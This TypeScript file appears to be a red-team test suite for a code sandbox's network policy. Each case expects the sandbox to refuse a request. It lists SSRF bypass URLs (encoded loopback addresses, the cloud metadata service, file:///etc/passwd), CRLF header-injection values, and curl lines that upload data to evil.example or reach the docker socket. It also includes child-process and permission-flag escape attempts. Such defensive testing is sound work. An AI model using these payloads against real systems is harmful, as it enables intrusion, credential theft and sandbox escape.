/**
 * Attacks of programs that may send requests to one host. Every request must be refused before anything is sent: the permitted host
 * does not exist, so a request that is sent fails in another way.
 */
import type { AttackTable, ProgramAttack } from '../attack.ts';
import { SECRETS } from './secret-attacks.ts';

const HOST = 'api.redteam.example';
const policy = {
  network: {
    allow: [`https://${HOST}/v1/*`, { url: `https://${HOST}/read/*`, methods: ['GET'] }],
    deny: [`https://${HOST}/v1/admin/*`],
    secrets: { API_KEY: { value: 'redteam-secret-value-42', allow: [`https://${HOST}/v1/*`] } },
  },
};

/** Hosts that a parser or a resolver could read as an address of the loopback interface. */
const LOOPBACK_HOSTS = ['127.0.0.1', '2130706433', '0x7f.1', 'localhost', '127.0.0.1%2e', '１２７.1。'];

/** URLs that no rule permits, in both languages. */
const URLS: readonly (readonly [name: string, url: string])[] = [
  ['other-host', 'https://evil.example/v1/x'],
  ['other-scheme', `http://${HOST}/v1/x`],
  ['other-port', `https://${HOST}:8443/v1/x`],
  ['other-path', `https://${HOST}/v2/x`],
  ['denied-path', `https://${HOST}/v1/admin/x`],
  ['denied-path-encoded', `https://${HOST}/v1/%61dmin/x`],
  ['denied-path-with-slashes', `https://${HOST}/v1//admin/x`],
  ['denied-path-with-encoded-slash', `https://${HOST}/v1/admin%2fx`],
  ['dot-segments', `https://${HOST}/v1/../admin`],
  ['encoded-dot-segments', `https://${HOST}/v1/%2e%2e/admin`],
  ['encoded-slash-after-dots', `https://${HOST}/v1/..%2fadmin`],
  ['encoded-backslash-after-dots', `https://${HOST}/v1/..%5cadmin`],
  ['dots-with-parameter', `https://${HOST}/v1/..;/admin`],
  ['double-encoding', `https://${HOST}/v1/%252e%252e%252fadmin`],
  ['user-instead-of-host', `https://${HOST}@evil.example/v1/x`],
  ['user-and-password', `https://${HOST}:443@evil.example/v1/x`],
  ['suffix-of-host', `https://${HOST}.evil.example/v1/x`],
  ['prefix-of-host', `https://evil-${HOST}/v1/x`],
  ['subdomain', `https://a.${HOST}/v1/x`],
  ['lookalike-letter', 'https://api.redteаm.example/v1/x'],
  ['metadata-service', 'http://169.254.169.254/latest/meta-data/'],
  ['metadata-service-ipv6', 'http://[fd00:ec2::254]/latest/meta-data/'],
  ['loopback', 'http://127.0.0.1/'],
  ['loopback-short', 'http://127.1/'],
  ['loopback-decimal', 'http://2130706433/'],
  ['loopback-octal', 'http://0177.0.0.1/'],
  ['loopback-hexadecimal', 'http://0x7f000001/'],
  ['loopback-ipv6', 'http://[::1]/'],
  ['loopback-mapped', 'http://[::ffff:127.0.0.1]/'],
  ['loopback-name', 'http://localhost/'],
  ['any-address', 'http://0.0.0.0/'],
  ['any-address-ipv6', 'http://[::]/'],
  ['loopback-mapped-hexadecimal', 'http://[::ffff:7f00:1]/'],
  ['loopback-compatible', 'http://[::127.0.0.1]/'],
  ['loopback-translated', 'http://[64:ff9b::127.0.0.1]/'],
  ['loopback-6to4', 'http://[2002:7f00:1::]/'],
  ['loopback-teredo', 'http://[2001:0:7f00:1::]/'],
  ['loopback-with-dot', 'http://127.0.0.1./'],
  ...LOOPBACK_HOSTS.map((host) => [`loopback-two-dots-${host}`, `http://${host}../`] as const),
  ['loopback-full-width', 'http://１２７.０.０.１/'],
  ['link-local-with-zone', 'http://[fe80::1%25eth0]/'],
  ['metadata-mapped', 'http://[::ffff:169.254.169.254]/latest/meta-data/'],
  ['metadata-decimal', 'http://2852039166/latest/meta-data/'],
  ['port-zero', `https://${HOST}:0/v1/x`],
  ['port-too-high', `https://${HOST}:65536/v1/x`],
  ['punycode', 'https://api.xn--redtem-0nf.example/v1/x'],
  ['other-path-after-fragment', `https://${HOST}/#/v1/x`],
  ['dot-segments-decoded-twice', `https://${HOST}/v1/%2%%36%35%2%%36%35/admin`],
  ['dot-segments-decoded-partly', `https://${HOST}/v1/%2%65%2%65/admin`],
  ['denied-path-triple-encoded', `https://${HOST}/v1/%25252e%25252e%25252fadmin`],
  ['private-address', 'https://10.0.0.1/v1/x'],
  ['file', 'file:///etc/passwd'],
  ['ftp', `ftp://${HOST}/v1/x`],
  ['gopher', `gopher://${HOST}/v1/x`],
  ['long', `https://${HOST}/v1/${'x'.repeat(9000)}`],
];

const rawRequest = (request: string) => `import json, _sandbox_network as network
try:
    print(network.exchange('network:request', json.dumps(${request})))
except OSError as error:
    print('refused')`;

const python = (name: string, request: string): ProgramAttack => ({
  name,
  code: rawRequest(request),
  policy,
  expect: { stdout: 'refused\n', metadata: { network: [{ outcome: 'refused', bytes_up: 0 }] } },
});

/** Requests that no library would send. */
const REQUESTS: readonly (readonly [name: string, fields: string])[] = [
  ['header-with-line-break', `"headers": [["X", "a\\r\\nHost: evil.example"]]`],
  ['header-with-nul', `"headers": [["X", "a\\0b"]]`],
  ['header-name-with-line-break', `"headers": [["X\\r\\nHost", "evil.example"]]`],
  ['header-name-with-colon', `"headers": [["Host: evil.example\\r\\nX", "a"]]`],
  ['header-with-wide-characters', `"headers": [["X", "a\\u010d\\u010aHost: evil.example"]]`],
  ['headers-that-are-long', `"headers": [["X", "a" * 40000]]`],
  ['many-headers', `"headers": [["X", "a"]] * 101`],
  ['headers-that-are-no-list', `"headers": {"X": "a"}`],
  ['method-with-line-break', `"method": "GET / HTTP/1.1\\r\\nHost: evil.example\\r\\n\\r\\nGET"`],
  ['method-connect', `"method": "CONNECT"`],
  ['method-trace', `"method": "trace"`],
  ['method-of-http2', `"method": "PRI"`],
  ['header-value-with-delete', `"headers": [["X", "a\\x7fb"]]`],
  ['body-of-wrong-type', `"method": "POST", "body": ["AAAA"]`],
  ['body-that-is-not-base64', `"body": "<script>"`],
  ['body-that-is-too-large', `"method": "POST", "body": "A" * 1600000`],
  ['url-that-is-no-text', `"url": ["https://${HOST}/v1/x"]`],
  ['url-with-line-break', `"url": "https://${HOST}/v1/x\\r\\nHost: evil.example"`],
  ['url-with-tab', `"url": "https://${HOST}/\\tadmin"`],
  ['url-with-backslash', `"url": "https://evil.example\\\\@${HOST}/v1/x"`],
  ['method-that-the-rule-excludes', `"method": "DELETE", "url": "https://${HOST}/read/x"`],
];

/** Programs that use what is behind the libraries. */
const PROGRAMS: readonly ProgramAttack[] = [
  {
    name: 'response-of-another-program',
    code: `import _sandbox_network as network
for handle in 0, 1, 2, 10**9:
    try:
        print(network.exchange('network:read', str(handle)))
    except OSError as error:
        print('refused')`,
    policy,
    expect: { stdout: 'refused\n'.repeat(4) },
  },
  {
    name: 'secret-is-not-in-the-environment',
    code: "import os\nprint(os.environ['API_KEY'][:7], 'redteam-secret-value' in repr(dict(os.environ)))",
    policy,
    expect: { stdout: 'secret_ False\n' },
  },
  {
    name: 'permission-claimed-by-the-program',
    code: `import _sandbox_network as network, urllib.request
network.State.is_allowed = True
try:
    urllib.request.urlopen('http://127.0.0.1/')
except OSError as error:
    print('refused')`,
    expect: { stdout: 'refused\n', metadata: { network: undefined } },
  },
];

const only = { ...policy, network_only: [`https://${HOST}/v1/public/*`] };
/** Every host at the port of an internal server. */
const anyHost = { network: { allow: ['http://*:8080/*'] } };
const anyAddress = {
  network: {
    allow: [{ url: 'http://*:8080/*', addresses: ['127.0.0.0/8'] }],
    deny: ['http://127.0.0.1:8080/*', 'http://localhost:8080/*'],
  },
};
const asking = { network: { ...policy.network, ask: true } };

/** Requests that a restriction excludes, or about which nobody can be asked. */
const OTHER_POLICIES: readonly (readonly [name: string, policy: object, url: string])[] = [
  ['network-only-other-path', only, `https://${HOST}/v1/private`],
  ['network-only-dot-segments', only, `https://${HOST}/v1/public/../private`],
  ['network-only-encoded-slash', only, `https://${HOST}/v1/public/..%2fprivate`],
  ['network-only-other-host', only, 'https://evil.example/v1/public/x'],
  ['network-only-denied-path', only, `https://${HOST}/v1/admin/x`],
  [
    'network-only-does-not-permit',
    { ...policy, network_only: ['https://evil.example/*'] },
    'https://evil.example/x',
  ],
  ['ask-without-a-person', asking, 'https://evil.example/x'],
  ['ask-about-a-denied-path', asking, `https://${HOST}/v1/admin/x`],
  ['ask-about-loopback', asking, 'http://127.0.0.1/'],
  ...LOOPBACK_HOSTS.flatMap((host) => {
    const url = `http://${host}..:8080/`;
    return [
      [`any-host-${host}`, anyHost, url],
      [`denied-host-${host}`, anyAddress, url],
      [`ask-about-${host}`, asking, url],
    ] as const;
  }),
  ['ask-about-metadata', asking, 'http://169.254.169.254/latest/meta-data/'],
  ['ask-about-a-file', asking, 'file:///etc/passwd'],
];

/** A program that runs a command line and prints whether it has failed without output. */
const starting = (argv: readonly string[]) => `import subprocess
ran = subprocess.run(${JSON.stringify(argv)}, capture_output=True, text=True, input='')
print(ran.returncode != 0, repr(ran.stdout))`;

const REFUSED_ONLY = { network: [{ outcome: 'refused', bytes_up: 0 }] };

/** Child processes that are to get more than the call has. */
const CHILDREN: readonly ProgramAttack[] = [
  {
    name: 'child-requests-another-host',
    code: starting([
      'python3',
      '-c',
      "import urllib.request\nurllib.request.urlopen('https://evil.example/')",
    ]),
    policy,
    expect: { stdout: "True ''\n", metadata: REFUSED_ONLY },
  },
  {
    name: 'child-of-a-child-requests-another-host',
    code: starting([
      'python3',
      '-c',
      "import subprocess, sys\nsys.exit(subprocess.run(['node', '-e', \"fetch('http://127.0.0.1/')\"]).returncode)",
    ]),
    policy,
    expect: { stdout: "True ''\n", metadata: REFUSED_ONLY },
  },
  {
    name: 'child-claims-a-permission',
    code: starting([
      'python3',
      '-c',
      "import _sandbox_network as network, urllib.request\nnetwork.State.is_allowed = True\nurllib.request.urlopen('http://127.0.0.1/')",
    ]),
    expect: { stdout: "True ''\n", metadata: { network: undefined } },
  },
  {
    name: 'child-outside-of-network-only',
    code: starting(['node', '-e', `fetch('https://${HOST}/v1/private')`]),
    policy: only,
    expect: { stdout: "True ''\n", metadata: REFUSED_ONLY },
  },
  {
    name: 'child-that-nobody-can-be-asked-about',
    code: starting(['node', '-e', "fetch('https://evil.example/')"]),
    policy: asking,
    expect: { stdout: "True ''\n", metadata: REFUSED_ONLY },
  },
  {
    name: 'child-with-numbers-of-other-calls',
    code: starting([
      'python3',
      '-c',
      `from _sandbox_tool_calls import exchange
for number in '-1', '0', '1e999', '9007199254740993', 'x':
    for name in 'network:request', 'network:read', 'tool':
        try:
            exchange(f'call\\n{number}\\n"{name}"\\n1')
            print('accepted')
        except OSError:
            pass
raise SystemExit(1)`,
    ]),
    policy,
    expect: { stdout: "True ''\n" },
  },
  {
    name: 'child-reads-responses-of-others',
    code: starting([
      'python3',
      '-c',
      `import _sandbox_network as network
for handle in 0, 1, 2, 10**9:
    try:
        print(network.exchange('network:read', str(handle)))
    except OSError:
        pass
raise SystemExit(1)`,
    ]),
    policy,
    expect: { stdout: "True ''\n" },
  },
];

/** Command lines of curl whose requests the host refuses. */
const REFUSED_COMMANDS: readonly (readonly string[])[] = [
  ['other-host', 'curl', '-s', 'https://evil.example/'],
  ['loopback-short', 'curl', '-s', 'http://127.1/'],
  ['metadata', 'curl', '-s', '-H', 'X-aws-ec2-metadata-token: a', 'http://169.254.169.254/latest/'],
  ['credentials-in-url', 'curl', '-s', `https://${HOST}@evil.example/v1/x`],
  [
    'method-with-line-break',
    'curl',
    '-s',
    '-X',
    'GET / HTTP/1.1\r\nHost: evil.example',
    `https://${HOST}/v1/x`,
  ],
  ['header-with-line-break', 'curl', '-s', '-H', 'X: a\r\nHost: evil.example', `https://${HOST}/v1/x`],
  ['upload-elsewhere', 'curl', '-s', '-T', '-', 'https://evil.example/'],
];

/** Command lines that the commands themselves refuse. */
const INVALID_COMMANDS: readonly (readonly string[])[] = [
  ['file', 'curl', '-s', 'file:///etc/passwd'],
  ['gopher', 'curl', '-s', `gopher://${HOST}/1`],
  ['insecure', 'curl', '-sk', `https://${HOST}/v1/x`],
  ['proxy', 'curl', '-s', '-x', 'http://127.0.0.1:3128', `https://${HOST}/v1/x`],
  ['socks', 'curl', '-s', '--socks5', '127.0.0.1:1080', `https://${HOST}/v1/x`],
  ['resolve', 'curl', '-s', '--resolve', `${HOST}:443:127.0.0.1`, `https://${HOST}/v1/x`],
  ['connect-to', 'curl', '-s', '--connect-to', '::127.0.0.1:80', `https://${HOST}/v1/x`],
  ['unix-socket', 'curl', '-s', '--unix-socket', '/var/run/docker.sock', 'http://localhost/'],
  ['interface', 'curl', '-s', '--interface', 'lo', `https://${HOST}/v1/x`],
  ['client-certificate', 'curl', '-s', '--cert', '/etc/ssl/key.pem', `https://${HOST}/v1/x`],
  ['dot-segments', 'curl', '-s', '--path-as-is', `https://${HOST}/v1/../admin`],
];

const commandLine =
  (metadata: object) =>
  ([name = '', ...argv]: readonly string[]): ProgramAttack => ({
    name: `command-${name}`,
    code: starting(argv),
    policy,
    expect: { stdout: "True ''\n", metadata },
  });

const javascript = (name: string, url: string): ProgramAttack => ({
  name,
  code: `try { await fetch(${JSON.stringify(url)}); console.log('sent'); }
catch (error) { console.log(error.cause?.kind ?? error.name); }`,
  policy,
  expect: { stdout: /^(?:refused|invalid|TypeError)\n$/ },
});

export const NETWORK: AttackTable = {
  python: [
    ...URLS.map(([name, url]) => python(name, `{"method": "GET", "url": ${JSON.stringify(url)}}`)),
    ...REQUESTS.map(([name, fields]) =>
      python(name, `{"method": "GET", "url": "https://${HOST}/v1/x", ${fields}}`),
    ),
    ...PROGRAMS,
    ...OTHER_POLICIES.map(([name, other, url]) => ({
      ...python(name, `{"method": "GET", "url": ${JSON.stringify(url)}}`),
      policy: other,
    })),
    ...CHILDREN,
    ...REFUSED_COMMANDS.map(commandLine(REFUSED_ONLY)),
    ...INVALID_COMMANDS.map(commandLine({ network: [] })),
  ],
  javascript: [...URLS.map(([name, url]) => javascript(name, url)), ...SECRETS],
};
